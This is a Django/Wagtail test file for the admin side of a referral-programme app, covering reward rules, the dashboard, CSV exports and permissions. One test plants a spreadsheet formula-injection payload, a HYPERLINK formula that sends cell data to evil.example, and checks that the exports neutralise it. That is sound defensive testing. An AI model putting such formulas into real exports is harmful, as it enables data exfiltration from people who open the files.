"""The "Referral" menu of the Wagtail admin: viewsets, dashboard report, referrals list."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from decimal import Decimal

from django.contrib.auth.models import Group, Permission
from django.test import TestCase, override_settings
from django.urls import reverse
from django.utils import formats, timezone
from wagtail.test.utils import WagtailTestUtils

from parrain.core.models import Program, Referral, RewardRule
from parrain.core.models.choices import ReferralStatus, Side
from parrain.core.services import stats
from parrain.core.services.enrolment import enrol_referrer
from parrain.core.services.invitations import invite_by_email
from parrain.core.services.orders import OrderData, record_order
from parrain.core.services.registration import register_referee
from tests.program_editor import editor_post_data

from .helpers import SITE_ROOT_URL, make_program

DASHBOARD = reverse("parrain_wagtail:dashboard")
REFERRALS = reverse("parrain_wagtail:referrals")


def referral_activity(program: Program) -> None:
    """Two invitations, one friend who claims the offer and orders, one plain order."""
    alice = enrol_referrer(program, "alice@example.com")
    invite_by_email(alice.contact, ["bob@example.com", "chloe@example.com"])
    register_referee(program, alice.code, "bob@example.com", consent=True)
    record_order(
        program,
        OrderData(external_id="A-1", email="bob@example.com", amount=Decimal("80"), currency="EUR"),
    )
    record_order(
        program,
        OrderData(external_id="A-2", email="dan@example.com", amount=Decimal("20"), currency="EUR"),
    )


@override_settings(PARRAIN_BASE_URL=SITE_ROOT_URL, LANGUAGE_CODE="en")
class AdminTests(WagtailTestUtils, TestCase):
    def setUp(self) -> None:
        self.program = make_program()
        self.superuser = self.create_superuser("owner", email="owner@example.com")

    def test_menu_groups_programs_rules_dashboard_and_referrals(self) -> None:
        self.client.force_login(self.superuser)
        html = self.client.get(reverse("wagtailadmin_home")).content.decode()
        for label in ("Referral", "Programs", "Reward rules", "Dashboard", "Referrals"):
            self.assertIn(label, html)

    def test_shop_owner_edits_a_reward_rule_through_the_viewset(self) -> None:
        self.client.force_login(self.superuser)
        rule = RewardRule.objects.get(program=self.program, side=Side.REFEREE)
        url = reverse("wagtailsnippets_parrain_rewardrule:edit", args=[rule.pk])
        form = self.client.get(url)
        self.assertContains(form, 'name="value" value="15.00"')
        self.assertContains(form, "-15 % sur votre première commande")
        data = {
            "program": self.program.pk,
            "side": "referee",
            "kind": "percentage",
            "value": "25",
            "minimum_order_amount": "0",
            "product_ref": "",
            "validity_days": "60",
            "labels_fr": "-25 % pour vous",
            "is_active": "on",
        }
        response = self.client.post(url, data)
        self.assertEqual(response.status_code, 302)
        rule.refresh_from_db()
        self.assertEqual((rule.value, rule.labels), (Decimal("25"), {"fr": "-25 % pour vous"}))

    def test_a_negative_reward_value_is_refused_and_the_rule_kept(self) -> None:
        self.client.force_login(self.superuser)
        rule = RewardRule.objects.get(program=self.program, side=Side.REFEREE)
        url = reverse("wagtailsnippets_parrain_rewardrule:edit", args=[rule.pk])
        response = self.client.post(
            url,
            {
                "program": self.program.pk,
                "side": "referee",
                "kind": "percentage",
                "value": "-5",
                "minimum_order_amount": "0",
                "validity_days": "60",
                "labels_fr": "",
            },
        )
        self.assertContains(response, "greater than or equal to 0")
        rule.refresh_from_db()
        self.assertEqual(rule.value, Decimal("15"))

    def test_programs_are_listed_and_editable(self) -> None:
        self.client.force_login(self.superuser)
        response = self.client.get(reverse("wagtailsnippets_parrain_program:list"))
        self.assertContains(response, "Maison Lumière")
        edit = self.client.get(
            reverse("wagtailsnippets_parrain_program:edit", args=[self.program.pk])
        )
        self.assertContains(edit, self.program.public_key)  # shown read-only

    def test_program_edit_saves_settings_and_keeps_the_public_key(self) -> None:
        self.client.force_login(self.superuser)
        url = reverse("wagtailsnippets_parrain_program:edit", args=[self.program.pk])
        key = self.program.public_key
        data = editor_post_data(self.client.get(url).context["form"])
        data.update(
            allowed_origins=["https://shop.example", ""],
            public_key="pk_forged",
            validation_delay_days=21,
        )

        response = self.client.post(url, data)

        self.assertEqual(response.status_code, 302, getattr(response, "context", None))
        self.program.refresh_from_db()
        self.assertEqual(self.program.validation_delay_days, 21)
        self.assertEqual(self.program.public_key, key)

    def test_dashboard_shows_the_core_figures_and_charts(self) -> None:
        referral_activity(self.program)
        self.client.force_login(self.superuser)
        today = timezone.localdate()

        response = self.client.get(DASHBOARD, {"program": self.program.pk})

        self.assertEqual(response.status_code, 200)
        figures = stats.dashboard(self.program, today - timedelta(days=29), today)
        self.assertEqual(response.context["figures"], figures)
        self.assertEqual((figures.invited_referees, figures.converted_referees), (2, 1))
        html = response.content.decode()
        self.assertEqual(html.count('<svg class="parrain-chart"'), 2)
        self.assertIn("alice@example.com", html)  # top referrers
        self.assertNotIn("cdn", html.lower().split("<svg", 1)[1].split("</svg>", 1)[0])
        # The daily rows say which day, not "3 weeks ago"
        self.assertIn(formats.date_format(today, "SHORT_DATE_FORMAT"), html)
        self.assertNotIn("Il y a", html)
        self.assertNotIn(" ago", html)

    def test_dashboard_csv_has_one_row_per_day_of_the_range(self) -> None:
        referral_activity(self.program)
        self.client.force_login(self.superuser)
        today = timezone.localdate()
        start = today - timedelta(days=6)

        response = self.client.get(
            DASHBOARD,
            {
                "program": self.program.pk,
                "start": start.isoformat(),
                "end": today.isoformat(),
                "export": "csv",
            },
        )

        self.assertEqual(response["Content-Type"], "text/csv")
        rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
        self.assertEqual(rows[0][:3], ["Day", "Invitations", "Invited referees"])
        self.assertEqual(len(rows), 1 + 7)
        self.assertEqual(rows[-1][1], "2")  # both invitations were sent today
        self.assertEqual(rows[-1][5], "80.00")  # referred revenue today

    def test_dashboard_refuses_a_reversed_range_with_a_message(self) -> None:
        self.client.force_login(self.superuser)
        response = self.client.get(
            DASHBOARD, {"program": self.program.pk, "start": "2026-02-10", "end": "2026-02-01"}
        )
        self.assertContains(response, "The start date must not be after the end date.")
        self.assertNotIn("figures", response.context)

    def test_referrals_list_filters_and_exports(self) -> None:
        referral_activity(self.program)
        self.client.force_login(self.superuser)

        converted = self.client.get(REFERRALS, {"status": ReferralStatus.CONVERTED})
        self.assertContains(converted, "bob@example.com")
        self.assertNotContains(converted, "chloe@example.com")

        export = self.client.get(REFERRALS, {"export": "csv"})
        body = b"".join(export.streaming_content).decode()
        self.assertIn("chloe@example.com", body)
        self.assertEqual(body.count("alice@example.com"), Referral.objects.count())

    def test_referral_export_neutralises_cells_a_spreadsheet_would_run(self) -> None:
        formula = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
        referral_activity(self.program)
        Program.objects.filter(pk=self.program.pk).update(name=formula)
        Referral.objects.update(cancel_reason="@SUM(1+1)")
        self.client.force_login(self.superuser)

        export = self.client.get(REFERRALS, {"export": "csv"})
        rows = list(csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode())))
        self.assertTrue(rows)
        for row in rows:
            self.assertEqual(row["Program"], f"'{formula}")
            self.assertEqual(row["Cancellation reason"], "'@SUM(1+1)")
            self.assertFalse(row["Referee"].startswith("'"))  # plain cells untouched

        from openpyxl import load_workbook

        xlsx = self.client.get(REFERRALS, {"export": "xlsx"})
        sheet = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
        cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == formula]
        self.assertTrue(cells)
        self.assertTrue(all(c.data_type == "s" for c in cells))  # text, never a formula

    def test_users_without_the_referral_permission_are_kept_out(self) -> None:
        editor = self.create_user("editor", email="editor@example.com")
        editor.user_permissions.add(Permission.objects.get(codename="access_admin"))
        self.client.force_login(editor)

        for url in (DASHBOARD, REFERRALS):
            denied = self.client.get(url, follow=True)
            self.assertContains(denied, "Sorry, you do not have permission to access this area.")
            self.assertNotContains(denied, "Maison Lumière")
        home = self.client.get(reverse("wagtailadmin_home")).content.decode()
        self.assertNotIn(f'"url": "{DASHBOARD}"', home)
        self.assertNotIn(f'"url": "{REFERRALS}"', home)

        group = Group.objects.create(name="Marketing")
        group.permissions.add(Permission.objects.get(codename="view_referral"))
        editor.groups.add(group)
        referral_activity(self.program)
        self.assertContains(self.client.get(DASHBOARD), "Invited referees")
        self.assertContains(self.client.get(REFERRALS), "chloe@example.com")
        self.assertIn(
            f'"url": "{DASHBOARD}"', self.client.get(reverse("wagtailadmin_home")).content.decode()
        )
